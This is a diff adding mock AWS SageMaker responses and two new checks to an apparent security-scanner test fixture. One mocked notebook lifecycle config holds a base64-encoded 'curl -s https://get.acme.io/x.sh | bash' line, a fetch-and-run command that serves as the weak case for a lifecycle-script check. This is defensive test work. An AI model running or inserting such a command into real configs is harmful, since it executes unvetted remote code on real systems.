@@ -36,6 +36,25 @@ function account(isMended: boolean): Answers {
         MinimumInstanceMetadataServiceVersion: either("1", "2"),
       },
     },
+    "SageMaker.ListNotebookInstanceLifecycleConfigs": {
+      NotebookInstanceLifecycleConfigs: [
+        {
+          NotebookInstanceLifecycleConfigName: "l",
+          NotebookInstanceLifecycleConfigArn: arn(
+            "sagemaker:@:notebook-instance-lifecycle-config/l",
+          ),
+        },
+      ],
+    },
+    "SageMaker.DescribeNotebookInstanceLifecycleConfig": {
+      OnStart: [
+        { Content: btoa(either("curl -s https://get.acme.io/x.sh | bash\n", "echo ready\n")) },
+      ],
+    },
+    "SageMaker.ListClusters": {
+      ClusterSummaries: [{ ClusterName: "c", ClusterArn: arn("sagemaker:@:cluster/c") }],
+    },
+    "SageMaker.DescribeCluster": { ClusterName: "c", ...only({ VpcConfig: network }) },
     "SageMaker.ListModels": {
       Models: [{ ModelName: "m", ModelArn: arn("sagemaker:@:model/m") }],
     },
@@ -205,6 +224,8 @@ function account(isMended: boolean): Answers {
 /** By the end of its address, what fails in the weak account and passes in the mended one. */
 const table: readonly (readonly [check: string, of: string])[] = [
   ["sagemaker-notebook-imds-v1", "notebook-instance/n"],
+  ["sagemaker-lifecycle-script", "notebook-instance-lifecycle-config/l"],
+  ["sagemaker-cluster-outside-vpc", "cluster/c"],
   ["sagemaker-model-network-isolation", "model/m"],
   ["sagemaker-model-registry-open", "model-package-group/g"],
   ["sagemaker-feature-store-key", "feature-group/f"],
